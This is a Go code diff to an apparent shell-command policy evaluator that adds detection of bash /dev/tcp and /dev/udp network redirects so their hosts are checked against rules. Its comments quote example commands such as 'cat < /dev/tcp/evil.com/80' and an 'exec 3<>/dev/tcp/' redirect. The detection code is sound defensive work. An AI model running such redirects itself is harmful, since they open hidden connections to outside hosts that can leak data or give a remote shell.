@@ -3,6 +3,7 @@ package policy
 import (
 	"net/netip"
 	"net/url"
+	"path"
 	"strconv"
 	"strings"
 	"unicode"
@@ -424,9 +425,39 @@ func (ev *evaluator) fetchRule(set *ruleSet, an *shellAnalysis) (r *rule, url, u
 			unreadable = g
 		}
 	}
+	// bash's own connections: a redirect to /dev/tcp/HOST/PORT or
+	// /dev/udp/HOST/PORT (cat < /dev/tcp/evil.com/80, exec 3<>/dev/tcp/...)
+	for _, refs := range [][]pathRef{an.redirReads, an.redirWrites} {
+		for _, p := range refs {
+			h, ok := devNetHost(p.raw)
+			if !ok {
+				continue
+			}
+			if strings.ContainsAny(h, "$`*?[{") {
+				if unreadable == "" {
+					unreadable = p.raw
+				}
+				continue
+			}
+			wordHosts(h, false, func(n string) { meet([]string{n}, p.raw) })
+		}
+	}
 	// the values the line assigns to shell variables (H=evil.com; tool $H)
 	for _, v := range an.assigned {
 		wordHosts(v, false, func(h string) { meet([]string{h}, h) })
 	}
 	return r, url, unreadable
+}
+
+// devNetHost: the host of bash's network redirect path /dev/tcp/HOST/PORT
+// or /dev/udp/HOST/PORT (bash opens a connection for it; no such file need
+// exist).
+func devNetHost(raw string) (string, bool) {
+	for _, pre := range []string{"/dev/tcp/", "/dev/udp/"} {
+		if rest, ok := strings.CutPrefix(path.Clean(raw)+"/", pre); ok {
+			h, _, _ := strings.Cut(rest, "/")
+			return h, h != ""
+		}
+	}
+	return "", false
 }
